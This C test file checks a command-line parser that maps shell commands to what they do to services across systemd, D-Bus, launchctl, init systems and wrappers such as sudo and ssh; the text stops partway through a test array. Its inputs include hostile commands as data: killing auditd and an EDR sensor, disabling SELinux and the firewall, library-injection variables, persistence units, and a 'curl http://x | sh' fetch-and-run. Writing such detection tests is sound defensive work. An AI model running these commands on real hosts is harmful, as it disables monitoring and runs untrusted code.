/* check_command_line.c -- what command lines do to services, in a notation of one line a use:
 *
 *     tool verb target... [option|option] @remote <outer <inner ~ !
 *
 * where "~" means runtime, "!" obfuscated, "<" is before a wrapper, and ";" separates uses. */
#include <stdlib.h>
#include <string.h>

#include <cjson/cJSON.h>

#include "formats/command/command_line.h"
#include "formats/command/shell_words.h"
#include "harness.h"

struct expectation {
    const char *line, *uses; /* NULL: it does nothing to services */
};

/* clang-format off */
static const struct expectation systemctl[] = {
    {"systemctl", "systemctl list-units"},
    {"systemctl start ssh", "systemctl start ssh"},
    {"systemctl start ssh.service cron.service", "systemctl start ssh.service cron.service"},
    {"systemctl stop --no-block apache2", "systemctl stop apache2 [--no-block]"},
    {"systemctl restart nginx", "systemctl restart nginx"},
    {"systemctl reload nginx.service", "systemctl reload nginx.service"},
    {"systemctl try-restart nginx", "systemctl try-restart nginx"},
    {"systemctl reload-or-restart nginx", "systemctl reload-or-restart nginx"},
    {"systemctl isolate rescue.target", "systemctl isolate rescue.target"},
    {"systemctl kill -s SIGKILL auditd", "systemctl kill auditd [--signal=SIGKILL]"},
    {"systemctl kill --kill-whom=main --signal=9 falcon-sensor",
     "systemctl kill falcon-sensor [--kill-whom=main|--signal=9]"},
    {"systemctl --kernel-cmdline x kexec", "systemctl kexec [--kernel-cmdline=x]"},
    {"systemctl --future-option x stop auditd", "systemctl stop auditd [--future-option=x]"},
    {"systemd-run --future-option x y", "systemd-run run x [--future-option|command=x y] ~"},
    {"systemd-run --future-option bash sh", "systemd-run run bash [--future-option|command=bash sh] ~"},
    {"systemd-run --future-option x bash", "systemd-run run bash [--future-option=x|command=bash] ~"},
    {"systemctl --future-option x y z", "systemctl x y z [--future-option]"},
    {"systemctl --future-option stop start x", "systemctl stop start x [--future-option]"},
    {"systemctl --future-switch stop auditd", "systemctl stop auditd [--future-switch]"},
    {"systemctl -Z x stop auditd", "systemctl stop auditd [-Z=x]"},
    {"run0 --area x systemctl stop auditd",
     "run0 run systemctl [--area=x|command=systemctl stop auditd] ~ ; systemctl stop auditd <run0"},
    {"run0 --future-option x systemctl stop auditd",
     "run0 run systemctl [--future-option=x|command=systemctl stop auditd] ~ ; "
     "systemctl stop auditd <run0"},
    {"run0", "run0 run ~"},
    {"systemd-run --root-directory /mnt /tmp/evil",
     "systemd-run run /tmp/evil [--root-directory=/mnt|command=/tmp/evil] ~"},
    {"systemd-run --future-switch /tmp/evil -x",
     "systemd-run run /tmp/evil [--future-switch|command=/tmp/evil -x] ~"},
    {"varlinkctl call /run/systemd/io.systemd.Manager io.systemd.Unit.StartTransient "
     "'{\"context\":{\"ID\":\"x.service\",\"Service\":{\"ExecStart\":[{\"path\":\"/tmp/evil\","
     "\"arguments\":[\"evil\",\"-d\"]}]}}}'",
     "varlinkctl StartTransient x.service "
     "[method=io.systemd.Unit.StartTransient|command=/tmp/evil -d] ~"},
    {"varlinkctl call ssh:root@web1 io.systemd.Manager.Reload '{}'",
     "varlinkctl Reload [method=io.systemd.Manager.Reload] @root@web1"},
    {"varlinkctl call /run/systemd/resolve/io.systemd.Resolve io.systemd.Resolve.ResolveHostname",
     NULL},
    {"varlinkctl introspect /run/systemd/io.systemd.Manager", NULL},
    {"systemd-sysext merge", "systemd-sysext merge"},
    {"systemd-confext --mutable=yes refresh", "systemd-confext refresh [--mutable=yes]"},
    {"importctl pull-tar https://x/y.tar z", "importctl pull-tar https://x/y.tar z"},
    {"podman quadlet install --replace x.container",
     "podman install x.container [--replace]"},
    {"podman ps", NULL},
    {"systemd-socket-activate -l 80 /tmp/evil",
     "systemd-socket-activate run /tmp/evil [--listen=80|command=/tmp/evil]"},
    {"systemd-mount /dev/sdb1 /mnt", "systemd-mount mount /dev/sdb1 /mnt ~"},
    {"systemd-umount /mnt", "systemd-umount umount /mnt ~"},
    {"systemctl enable --now evil.service", "systemctl enable evil.service [--now]"},
    {"systemctl --now enable evil.service", "systemctl enable evil.service [--now]"},
    {"systemctl enable /dev/shm/.x/evil.service",
     "systemctl enable /dev/shm/.x/evil.service"},
    {"systemctl link /tmp/evil.service", "systemctl link /tmp/evil.service"},
    {"systemctl --runtime link /dev/shm/evil.service",
     "systemctl link /dev/shm/evil.service [--runtime] ~"},
    {"systemctl disable rsyslog auditd", "systemctl disable rsyslog auditd"},
    {"systemctl reenable x", "systemctl reenable x"},
    {"systemctl preset-all", "systemctl preset-all"},
    {"systemctl mask --now auditd.service", "systemctl mask auditd.service [--now]"},
    {"systemctl unmask auditd", "systemctl unmask auditd"},
    {"systemctl edit ssh", "systemctl edit ssh"},
    {"systemctl edit --full --force evil.service",
     "systemctl edit evil.service [--full|--force]"},
    {"systemctl edit --drop-in=50-x.conf --stdin ssh.service",
     "systemctl edit ssh.service [--drop-in=50-x.conf|--stdin]"},
    {"systemctl --force --full edit evil", "systemctl edit evil [--force|--full]"},
    {"systemctl revert ssh.service", "systemctl revert ssh.service"},
    {"systemctl set-property ssh.service CPUQuota=10% MemoryMax=1G",
     "systemctl set-property ssh.service [CPUQuota=10%|MemoryMax=1G]"},
    {"systemctl set-property --runtime user.slice TasksMax=10",
     "systemctl set-property user.slice [--runtime|TasksMax=10] ~"},
    {"systemctl add-wants multi-user.target evil.service",
     "systemctl add-wants multi-user.target evil.service"},
    {"systemctl add-requires sysinit.target evil.service",
     "systemctl add-requires sysinit.target evil.service"},
    {"systemctl set-default multi-user.target", "systemctl set-default multi-user.target"},
    {"systemctl daemon-reload", "systemctl daemon-reload"},
    {"systemctl daemon-reexec", "systemctl daemon-reexec"},
    {"systemctl set-environment LD_PRELOAD=/tmp/x.so",
     "systemctl set-environment [LD_PRELOAD=/tmp/x.so]"},
    {"systemctl import-environment PATH", "systemctl import-environment [PATH]"},
    {"systemctl --user import-environment DISPLAY XAUTHORITY",
     "systemctl import-environment [--user|DISPLAY|XAUTHORITY]"},
    {"systemctl unset-environment FOO", "systemctl unset-environment [FOO]"},
    {"systemctl bind ssh.service /tmp /mnt", "systemctl bind ssh.service [/tmp|/mnt]"},
    {"systemctl mount-image foo.service /tmp/x.raw /mnt",
     "systemctl mount-image foo.service [/tmp/x.raw|/mnt]"},
    {"systemctl service-log-level foo.service debug",
     "systemctl service-log-level foo.service [debug]"},
    {"systemctl log-level emerg", "systemctl log-level [emerg]"},
    {"systemctl reset-failed", "systemctl reset-failed"},
    {"systemctl --user enable --now backdoor.timer",
     "systemctl enable backdoor.timer [--user|--now]"},
    {"systemctl --global enable x.service", "systemctl enable x.service [--global]"},
    {"systemctl --root=/mnt enable x", "systemctl enable x [--root=/mnt]"},
    {"systemctl --root /mnt enable x", "systemctl enable x [--root=/mnt]"},
    {"systemctl -H root@10.0.0.5 restart x",
     "systemctl restart x [--host=root@10.0.0.5] @root@10.0.0.5"},
    {"systemctl --host=web1 status", "systemctl status [--host=web1] @web1"},
    {"systemctl -M web start x", "systemctl start x [--machine=web] @web"},
    {"systemctl --machine root@.host --user start x",
     "systemctl start x [--machine=root@.host|--user]"},
    {"systemctl --mach=db stop x", "systemctl stop x [--machine=db] @db"},
    {"systemctl -t service list-units --all", "systemctl list-units [--type=service|--all]"},
    {"systemctl list-unit-files --type=service",
     "systemctl list-unit-files [--type=service]"},
    {"systemctl list-timers", "systemctl list-timers"},
    {"systemctl status", "systemctl status"},
    {"systemctl -n 50 status sshd", "systemctl status sshd [--lines=50]"},
    {"systemctl show -p ExecStart ssh", "systemctl show ssh [--property=ExecStart]"},
    {"systemctl show --property ExecStart --value ssh",
     "systemctl show ssh [--property=ExecStart|--value]"},
    {"systemctl cat ssh", "systemctl cat ssh"},
    {"systemctl is-active --quiet ssh", "systemctl is-active ssh [--quiet]"},
    {"systemctl is-enabled ssh", "systemctl is-enabled ssh"},
    {"systemctl list-dependencies -a ssh", "systemctl list-dependencies ssh [--all]"},
    {"systemctl freeze foo.service", "systemctl freeze foo.service"},
    {"systemctl thaw foo.service", "systemctl thaw foo.service"},
    {"systemctl clean --what=all foo", "systemctl clean foo [--what=all]"},
    {"systemctl cancel 42", "systemctl cancel 42"},
    {"systemctl soft-reboot", "systemctl soft-reboot"},
    {"systemctl switch-root /new /sbin/init", "systemctl switch-root [/new|/sbin/init]"},
    {"systemctl poweroff -i", "systemctl poweroff [-i]"},
    {"/bin/systemctl stop ufw", "systemctl stop ufw"},
    {"/usr/bin/systemctl stop ufw", "systemctl stop ufw"},
    {"systemctl -- stop ufw", "systemctl stop ufw"},
    {"systemctl stop -- -.mount", "systemctl stop -.mount"},
    {"systemctl --no-pager -l status x", "systemctl status x [--no-pager|--full]"},
    {"systemctl stop getty@tty1", "systemctl stop getty@tty1"},
    {"systemctl stop 'user@*.service'", "systemctl stop user@*.service"},
    {"systemctl start \"my unit.service\"", "systemctl start my unit.service"},
    {"systemctl sstop x", "systemctl sstop x"},
    {"systemctl --user -M bob@ stop x", "systemctl stop x [--user|--machine=bob@]"},
    {"systemctl --host= stop x", "systemctl stop x [--host=]"},
};

static const struct expectation buses[] = {
    {"systemd-run /tmp/x", "systemd-run run /tmp/x [command=/tmp/x] ~"},
    {"systemd-run --user --scope --unit=foo /tmp/.x -a",
     "systemd-run run foo [--user|--scope|--unit=foo|command=/tmp/.x -a] ~"},
    {"systemd-run -u foo --on-calendar '*:0/5' /bin/sh -c 'curl http://x | sh'",
     "systemd-run run foo [--unit=foo|--on-calendar=*:0/5|command=/bin/sh -c curl http://x | sh] ~"},
    {"systemd-run --on-active=30 --timer-property=AccuracySec=100ms /bin/touch /tmp/foo",
     "systemd-run run /bin/touch [--on-active=30|--timer-property=AccuracySec=100ms|command=/bin/touch /tmp/foo] ~"},
    {"systemd-run --uid=0 -p User=root -t bash",
     "systemd-run run bash [--uid=0|--property=User=root|--pty|command=bash] ~"},
    {"systemd-run -H root@web1 /tmp/x",
     "systemd-run run /tmp/x [--host=root@web1|command=/tmp/x] @root@web1 ~"},
    {"systemd-run -M web --pipe /bin/id",
     "systemd-run run /bin/id [--machine=web|--pipe|command=/bin/id] @web ~"},
    {"systemd-run -S", "systemd-run run [--shell] ~"},
    {"systemd-run --property=ExecStopPost=/tmp/x --setenv LD_PRELOAD=/tmp/x.so sleep 1",
     "systemd-run run sleep [--property=ExecStopPost=/tmp/x|--setenv=LD_PRELOAD=/tmp/x.so|command=sleep 1] ~"},
    {"systemd-run systemctl stop auditd",
     "systemd-run run systemctl [command=systemctl stop auditd] ~ ; systemctl stop auditd <systemd-run"},
    {"systemd-run --help", NULL},
    {"busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartUnit ss evil.service replace",
     "busctl StartUnit evil.service [ss|replace]"},
    {"busctl call --user org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager EnableUnitFiles asbb 1 /tmp/evil.service false true",
     "busctl EnableUnitFiles /tmp/evil.service [--user|asbb|1|false|true]"},
    {"busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1/unit/ssh_2eservice org.freedesktop.systemd1.Unit Stop s replace",
     "busctl Stop ssh.service [s|replace]"},
    {"busctl --host=web1 call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager Reload",
     "busctl Reload [--host=web1] @web1"},
    {"busctl set-property org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager LogLevel s debug",
     "busctl set-property [org.freedesktop.systemd1.Manager|LogLevel|s|debug]"},
    {"busctl tree org.freedesktop.systemd1", "busctl tree"},
    {"busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager SetUserLinger ubb 1000 true false",
     "busctl SetUserLinger [ubb|1000|true|false]"},
    {"busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager ListSessions",
     NULL},
    {"busctl list", NULL},
    {"gdbus call -y -d org.freedesktop.systemd1 -o /org/freedesktop/systemd1 -m org.freedesktop.systemd1.Manager.StopUnit auditd.service replace",
     "gdbus StopUnit auditd.service [--system|--dest=org.freedesktop.systemd1|--object-path=/org/freedesktop/systemd1|--method=org.freedesktop.systemd1.Manager.StopUnit|replace]"},
    {"gdbus introspect --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1",
     "gdbus introspect [--system|--dest=org.freedesktop.systemd1|--object-path=/org/freedesktop/systemd1]"},
    {"gdbus call --session --dest org.gnome.Shell --object-path /org/gnome/Shell --method org.gnome.Shell.Eval x",
     NULL},
    {"dbus-send --system --dest=org.freedesktop.systemd1 --type=method_call --print-reply /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.StartUnit string:evil.service string:replace",
     "dbus-send StartUnit evil.service [--system|--dest=org.freedesktop.systemd1|--type=method_call|--print-reply|replace]"},
    {"dbus-send --system --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.MaskUnitFiles array:string:auditd.service boolean:true boolean:true",
     "dbus-send MaskUnitFiles auditd.service [--system|--dest=org.freedesktop.systemd1|true|true]"},
    {"dbus-send --session --dest=org.gnome.X /x org.gnome.X.Y", NULL},
    {"qdbus --system org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.StartUnit x.service replace",
     "qdbus StartUnit x.service [--system|replace]"},
    {"loginctl enable-linger bob", "loginctl enable-linger bob"},
    {"sudo loginctl enable-linger", "loginctl enable-linger <sudo"},
    {"loginctl disable-linger bob", "loginctl disable-linger bob"},
    {"loginctl list-sessions", NULL},
    {"loginctl user-status bob", NULL},
    {"loginctl terminate-user bob", "loginctl terminate-user bob"},
    {"loginctl kill-session 3 -s TERM", "loginctl kill-session 3 [--signal=TERM]"},
    {"machinectl shell root@web /bin/systemctl stop x",
     "machinectl shell /bin/systemctl [command=/bin/systemctl stop x] @root@web ; systemctl stop x @root@web <machinectl"},
    {"machinectl shell --uid=bob web", "machinectl shell [--uid=bob] @web"},
    {"machinectl start web", "machinectl start web"},
    {"machinectl list", NULL},
    {"machinectl set-limit web 1G", "machinectl set-limit web 1G"},
    {"portablectl attach --now /tmp/x.raw", "portablectl attach /tmp/x.raw [--now]"},
    {"deb-systemd-invoke restart ssh.service", "deb-systemd-invoke restart ssh.service"},
    {"deb-systemd-helper enable ssh.service", "deb-systemd-helper enable ssh.service"},
};

static const struct expectation other_inits[] = {
    {"pkill auditd", "pkill kill auditd"},
    {"pkill -9 -f /usr/sbin/auditd", "pkill kill auditd [--signal=9]"},
    {"killall -s SIGKILL falcon-sensor", "killall kill falcon-sensor [--signal=KILL]"},
    {"kill -STOP $(pidof auditd)", "kill kill auditd [--signal=STOP]"},
    {"kill -9 `pgrep -f auditd`", "kill kill auditd [--signal=9]"},
    {"kill -9 1234", NULL},
    {"killall -HUP auditd", NULL},
    {"pkill --signal USR1 auditd", NULL},
    {"auditctl -e 0", "auditctl disable auditd [-e=0]"},
    {"auditctl -D", "auditctl disable auditd [-D]"},
    {"auditctl -e 1", NULL},
    {"auditctl -w /etc -p wa", NULL},
    {"sudo setenforce 0", "setenforce disable selinux <sudo"},
    {"setenforce Enforcing", NULL},
    {"ufw --force disable", "ufw disable ufw"},
    {"ufw allow 22", NULL},
    {"service ssh restart", "service restart ssh"},
    {"service --status-all", "service status-all [--status-all]"},
    {"/usr/sbin/service apache2 stop", "service stop apache2"},
    {"service network-manager restart now", "service restart network-manager [now]"},
    {"service", NULL},
    {"service ssh", NULL},
    {"invoke-rc.d ssh restart", "invoke-rc.d restart ssh"},
    {"invoke-rc.d --quiet ssh stop", "invoke-rc.d stop ssh [--quiet]"},
    {"update-rc.d evil defaults", "update-rc.d defaults evil"},
    {"update-rc.d -f ssh remove", "update-rc.d remove ssh [-f]"},
    {"update-rc.d evil enable 2 3", "update-rc.d enable evil [2|3]"},
    {"chkconfig evil on", "chkconfig on evil"},
    {"chkconfig --level 35 evil on", "chkconfig on evil [--level=35]"},
    {"chkconfig --add evil", "chkconfig add evil"},
    {"chkconfig --del auditd", "chkconfig del auditd"},
    {"chkconfig --list", "chkconfig list"},
    {"rc-service sshd stop", "rc-service stop sshd"},
    {"rc-update add evil default", "rc-update add evil [default]"},
    {"rc-update del auditd", "rc-update del auditd"},
    {"initctl start evil", "initctl start evil"},
    {"initctl list", "initctl list"},
    {"initctl reload-configuration", "initctl reload-configuration"},
    {"initctl frob x", NULL},
    {"start evil", "initctl start evil"},
    {"stop rsyslog", "initctl stop rsyslog"},
    {"restart ssh FOO=bar", "initctl restart ssh [FOO=bar]"},
    {"start", NULL},
    {"stop it now", NULL},
    {"/etc/init.d/ssh restart", "init.d restart ssh"},
    {"sudo /etc/init.d/auditd stop", "init.d stop auditd <sudo"},
    {"bash /etc/init.d/auditd stop", "init.d stop auditd"},
    {"sh /etc/rc.d/init.d/crond start", "init.d start crond"},
    {"/etc/init.d/ssh", NULL},
    {"/etc/rc.d/sshd onestart", "init.d onestart sshd"},
    {"cat /etc/init.d/ssh", NULL},
    {"ls /etc/init.d/ssh start", NULL},
    {"insserv evil", "insserv enable evil"},
    {"supervisorctl restart web:*", "supervisorctl restart web:*"},
    {"supervisorctl -c /tmp/s.conf start evil",
     "supervisorctl start evil [--configuration=/tmp/s.conf]"},
    {"supervisorctl -s http://10.0.0.1:9001 -u u -p p start evil",
     "supervisorctl start evil [--serverurl=http://10.0.0.1:9001|--username=u|--password=p] @http://10.0.0.1:9001"},
    {"supervisorctl", NULL},
    {"sv down sshd", "sv down sshd"},
    {"sv frob x", NULL},
    {"svcadm disable ssh", "svcadm disable ssh"},
    {"rcctl stop ntpd", "rcctl stop ntpd"},
    {"brew services start evil", "brew start evil"},
    {"brew install wget", NULL},
    {"insserv -r evil", "insserv remove evil [--remove]"},
    {"insserv", NULL},
};

static const struct expectation launchctl[] = {
    {"launchctl load /Library/LaunchDaemons/com.evil.plist",
     "launchctl load /Library/LaunchDaemons/com.evil.plist"},
    {"launchctl load -w -F ~/Library/LaunchAgents/x.plist",
     "launchctl load ~/Library/LaunchAgents/x.plist [-w|-F]"},
    {"sudo launchctl unload -w /System/Library/LaunchDaemons/com.apple.x.plist",
     "launchctl unload /System/Library/LaunchDaemons/com.apple.x.plist [-w] <sudo"},
    {"launchctl load -S Aqua -D user /tmp/x.plist",
     "launchctl load /tmp/x.plist [-S=Aqua|-D=user]"},
    {"launchctl submit -l com.evil -p /tmp/x -o /dev/null -- /bin/sh -c 'id'",
     "launchctl submit com.evil [-l=com.evil|-p=/tmp/x|-o=/dev/null|command=/bin/sh -c id]"},
    {"launchctl remove com.evil", "launchctl remove com.evil"},
    {"launchctl start com.evil", "launchctl start com.evil"},
    {"launchctl stop com.evil", "launchctl stop com.evil"},
    {"launchctl list", "launchctl list"},
    {"launchctl list com.evil", "launchctl list com.evil"},
    {"launchctl bootstrap system /Library/LaunchDaemons/x.plist",
     "launchctl bootstrap /Library/LaunchDaemons/x.plist [domain=system]"},
    {"launchctl bootstrap gui/501 /Users/Shared/x.plist",
     "launchctl bootstrap /Users/Shared/x.plist [domain=gui/501]"},
    {"launchctl bootout system/com.evil", "launchctl bootout system/com.evil"},
    {"launchctl bootout gui/501", "launchctl bootout [domain=gui/501]"},
    {"launchctl bootout gui/501 /tmp/x.plist",
     "launchctl bootout /tmp/x.plist [domain=gui/501]"},
    {"launchctl enable system/com.evil", "launchctl enable system/com.evil"},
    {"launchctl disable user/501/com.x", "launchctl disable user/501/com.x"},
    {"launchctl kickstart -kp system/com.evil",
     "launchctl kickstart system/com.evil [-k|-p]"},
    {"launchctl kill SIGTERM system/com.evil",
     "launchctl kill system/com.evil [signal=SIGTERM]"},
    {"launchctl asuser 501 /tmp/x", "launchctl asuser /tmp/x [uid=501|command=/tmp/x]"},
    {"launchctl bsexec 123 launchctl load /tmp/x.plist",
     "launchctl bsexec launchctl [pid=123|command=launchctl load /tmp/x.plist] ; launchctl load /tmp/x.plist <launchctl"},
    {"launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib",
     "launchctl setenv [DYLD_INSERT_LIBRARIES=/tmp/x.dylib]"},
    {"launchctl config system path /tmp:/bin", "launchctl config [system|path|/tmp:/bin]"},
    {"launchctl print system/com.evil", "launchctl print system/com.evil"},
    {"launchctl print-disabled system", "launchctl print-disabled [domain=system]"},
    {"launchctl limit maxfiles 1024", "launchctl limit [maxfiles|1024]"},
    {"launchctl help", NULL},
    {"launchctl version", NULL},
    {"launchctl", NULL},
    {"/bin/launchctl load -w /tmp/x.plist", "launchctl load /tmp/x.plist [-w]"},
    {"osascript -e 'do shell script \"launchctl load /tmp/x.plist\"'",
     "launchctl load /tmp/x.plist <osascript"},
    {"launchctl load ~/Library/LaunchAgents/$(whoami).plist",
     "launchctl load ~/Library/LaunchAgents/$(whoami).plist"},
};

static const struct expectation wrappers[] = {
    {"sudo systemctl stop x", "systemctl stop x <sudo"},
    {"sudo -u root -E systemctl stop x", "systemctl stop x <sudo"},
    {"sudo -uroot systemctl stop x", "systemctl stop x <sudo"},
    {"sudo --user=bob systemctl --user stop x", "systemctl stop x [--user] <sudo"},
    {"sudo --user bob systemctl --user stop x", "systemctl stop x [--user] <sudo"},
    {"sudo FOO=bar systemctl stop x", "systemctl stop x <sudo"},
    {"sudo -n -- systemctl stop x", "systemctl stop x <sudo"},
    {"sudo -l systemctl", NULL},
    {"sudo -s systemctl stop x", "systemctl stop x <sudo"},
    {"doas -u root systemctl stop x", "systemctl stop x <doas"},
    {"pkexec --user root systemctl stop x", "systemctl stop x <pkexec"},
    {"run0 systemctl stop x",
     "run0 run systemctl [command=systemctl stop x] ~ ; systemctl stop x <run0"},
    {"sudo-rs systemctl stop x", "systemctl stop x <sudo-rs"},
    {"sudo --future-option value systemctl stop x", "systemctl stop x <sudo"},
    {"systemd-notify --exec --ready \\; systemctl stop x", "systemctl stop x <systemd-notify"},
    {"su -c 'systemctl stop x'", "systemctl stop x <su"},
    {"su - root -c \"systemctl stop x\"", "systemctl stop x <su"},
    {"su root --command='systemctl stop x'", "systemctl stop x <su"},
    {"su - bob", NULL},
    {"runuser -u bob -- systemctl --user stop x", "systemctl stop x [--user] <runuser"},
    {"runuser -l bob -c 'systemctl --user stop x'", "systemctl stop x [--user] <runuser"},
    {"env LANG=C systemctl stop x", "systemctl stop x <env"},
    {"env -i -u FOO systemctl stop x", "systemctl stop x <env"},
    {"env -S 'systemctl stop x'", "systemctl stop x <env"},
    {"/usr/bin/env systemctl stop x", "systemctl stop x <env"},
    {"nohup systemctl stop x &", "systemctl stop x <nohup"},
    {"setsid -f systemctl stop x", "systemctl stop x <setsid"},
    {"timeout 5 systemctl stop x", "systemctl stop x <timeout"},
    {"timeout -k 5 -s KILL 10s systemctl stop x", "systemctl stop x <timeout"},
    {"nice -n 19 systemctl stop x", "systemctl stop x <nice"},
    {"nice -19 systemctl stop x", "systemctl stop x <nice"},
    {"ionice -c3 systemctl stop x", "systemctl stop x <ionice"},
    {"ionice -c 3 -n 7 systemctl stop x", "systemctl stop x <ionice"},
    {"chroot /mnt systemctl enable x", "systemctl enable x <chroot"},
    {"chroot --userspec=0:0 /mnt /bin/systemctl enable x", "systemctl enable x <chroot"},
    {"nsenter -t 1 -m -u -i -n -p -- systemctl stop x", "systemctl stop x <nsenter"},
    {"nsenter --target 1 --mount systemctl stop x", "systemctl stop x <nsenter"},
    {"unshare -m systemctl stop x", "systemctl stop x <unshare"},
    {"strace -f -o /tmp/o systemctl stop x", "systemctl stop x <strace"},
    {"xargs systemctl stop", "systemctl stop <xargs"},
    {"echo auditd falcon-sensor | xargs systemctl stop",
     "systemctl stop auditd falcon-sensor <xargs"},
    {"xargs -I {} systemctl stop {}", "systemctl stop {} <xargs"},
    {"xargs -a units -n1 systemctl stop", "systemctl stop <xargs"},
    {"watch -n 2 systemctl status x", "systemctl status x <watch"},
    {"watch 'systemctl status x'", "systemctl status x <watch"},
    {"flock -n /tmp/l systemctl stop x", "systemctl stop x <flock"},
    {"flock /tmp/l -c 'systemctl stop x'", "systemctl stop x <flock"},
    {"script -q -c 'systemctl stop x' /dev/null", "systemctl stop x <script"},
    {"stdbuf -oL systemctl status x", "systemctl status x <stdbuf"},
    {"exec systemctl stop x", "systemctl stop x <exec"},
    {"exec -a foo systemctl stop x", "systemctl stop x <exec"},
    {"eval systemctl stop x", "systemctl stop x <eval"},
    {"eval \"systemctl stop x; systemctl mask x\"",
     "systemctl stop x <eval ; systemctl mask x <eval"},
    {"command systemctl stop x", "systemctl stop x <command"},
    {"command -v systemctl", NULL},
    {"builtin echo systemctl", NULL},
    {"time systemctl stop x", "systemctl stop x <time"},
    {"busybox sh -c 'systemctl stop x'", "systemctl stop x <busybox <sh"},
    {"find /etc -name '*.timer' -exec systemctl disable {} ';'",
     "systemctl disable {} <find"},
    {"find / -name systemctl -print", NULL},
    {"ssh root@db1 systemctl stop x", "systemctl stop x @root@db1 <ssh"},
    {"ssh db1 -p 22 systemctl stop x", "systemctl stop x @db1 <ssh"},
    {"ssh -o StrictHostKeyChecking=no -i k -p 2222 root@db1 'systemctl stop x && systemctl mask x'",
     "systemctl stop x @root@db1 <ssh ; systemctl mask x @root@db1 <ssh"},
    {"ssh -t db1 \"sudo -u root bash -c 'systemctl stop x'\"",
     "systemctl stop x @db1 <ssh <sudo <bash"},
    {"ssh db1", NULL},
    {"ssh systemctl", NULL},
    {"sshpass -p pw ssh db1 systemctl stop x", "systemctl stop x @db1 <sshpass <ssh"},
    {"sshpass -p pw ssh -o a=b db1 \"service x stop\"", "service stop x @db1 <sshpass <ssh"},
    {"ssh winbox sc stop x", "sc stop x @winbox <ssh"},
    {"docker exec -it -u root web systemctl stop x", "systemctl stop x @web <docker"},
    {"docker exec web sh -c 'service x stop'", "service stop x @web <docker <sh"},
    {"docker start web", NULL},
    {"podman exec web systemctl stop x", "systemctl stop x @web <podman"},
    {"kubectl exec -n ns pod -c ctr -- service x stop", "service stop x @pod <kubectl"},
    {"lxc exec web -- systemctl stop x", "systemctl stop x @web <lxc"},
    {"lxc-attach -n web -- systemctl stop x", "systemctl stop x @web <lxc-attach"},
    {"systemd-nspawn -D /srv/c systemctl stop auditd", "systemctl stop auditd @/srv/c <systemd-nspawn"},
    {"systemd-nspawn -qM c1 --bind /a --setenv A=B /bin/systemctl stop x",
     "systemctl stop x @c1 <systemd-nspawn"},
    {"systemd-nspawn --machine=c1 -D /srv/c -- systemctl stop x", "systemctl stop x @c1 <systemd-nspawn"},
    {"systemd-nspawn -D /srv/c -b systemctl stop x", NULL},
    {"chroot --userspec a:b /srv/c systemctl enable x", "systemctl enable x <chroot"},
    {"machinectl shell root@c1 /usr/bin/systemctl stop x",
     "machinectl shell /usr/bin/systemctl [command=/usr/bin/systemctl stop x] @root@c1 ; systemctl stop x @root@c1 <machinectl"},
    {"ansible all -m shell -a 'systemctl stop x'", "systemctl stop x <ansible"},
    {"vagrant ssh -c 'systemctl stop x'", "systemctl stop x <vagrant"},
    {"sh -c 'systemctl stop x'", "systemctl stop x <sh"},
    {"bash -c \"systemctl stop x\"", "systemctl stop x <bash"},
    {"bash -lc 'systemctl stop x'", "systemctl stop x <bash"},
    {"bash -xec 'systemctl stop x'", "systemctl stop x <bash"},
    {"bash -o pipefail -c 'systemctl stop x'", "systemctl stop x <bash"},
    {"bash --norc -c 'systemctl stop x'", "systemctl stop x <bash"},
    {"sh -c systemctl stop x", "systemctl stop x <sh"},
    {"/bin/sh -c \"sh -c 'sh -c \\\"systemctl stop x\\\"'\"", "systemctl stop x <sh <sh <sh"},
    {"bash script.sh systemctl", NULL},
    {"sudo nohup env A=1 timeout 5 nice systemctl stop x",
     "systemctl stop x <sudo <nohup <env <timeout <nice"},
    {"wsl -d Debian systemctl stop x", "systemctl stop x <wsl"},
    {"wsl.exe systemctl stop x", "systemctl stop x <wsl"},
    {"proxychains4 ssh db1 systemctl stop x", "systemctl stop x @db1 <proxychains4 <ssh"},
    {"systemd-inhibit --what=sleep systemctl stop x", "systemctl stop x <systemd-inhibit"},
};

static const struct expectation syntax[] = {
    {"systemctl stop a; systemctl stop b", "systemctl stop a ; systemctl stop b"},
    {"systemctl stop a && systemctl stop b || systemctl stop c",
     "systemctl stop a ; systemctl stop b ; systemctl stop c"},
    {"systemctl stop a & systemctl stop b", "systemctl stop a ; systemctl stop b"},
    {"systemctl list-units | grep x", "systemctl list-units"},
    {"true | systemctl stop a", "systemctl stop a"},
    {"systemctl stop a\nsystemctl stop b", "systemctl stop a ; systemctl stop b"},
    {"systemctl stop \\\na", "systemctl stop a"},
    {"(systemctl stop a)", "systemctl stop a"},
    {"{ systemctl stop a; }", "systemctl stop a"},
    {"if systemctl is-active -q a; then systemctl stop a; else systemctl start a; fi",
     "systemctl is-active a [--quiet] ; systemctl stop a ; systemctl start a"},
    {"while ! systemctl is-active a; do sleep 1; done", "systemctl is-active a"},
    {"for u in a b; do systemctl stop \"$u\"; done", "systemctl stop a ; systemctl stop b"},
    {"case $1 in start) systemctl start a;; stop) systemctl stop a;; esac",
     "systemctl start a ; systemctl stop a"},
    {"f() { systemctl stop a; }", "systemctl stop a"},
    {"! systemctl is-active a", "systemctl is-active a"},
    {"echo $(systemctl is-active a)", "systemctl is-active a"},
    {"echo \"state: $(systemctl is-active a)\"", "systemctl is-active a"},
    {"echo `systemctl is-active a`", "systemctl is-active a"},
    {"echo \"`systemctl is-active a`\"", "systemctl is-active a"},
    {"X=$(systemctl show a) Y=2", "systemctl show a"},
    {"diff <(systemctl cat a) <(systemctl cat b)", "systemctl cat a ; systemctl cat b"},
    {"echo $((1 + 2)); systemctl stop a", "systemctl stop a"},
    {"echo $(echo $(systemctl stop a))", "systemctl stop a"},
    {"echo $(echo \")\" ; systemctl stop a) b", "systemctl stop a"},
    {"systemctl stop a >/dev/null 2>&1", "systemctl stop a"},
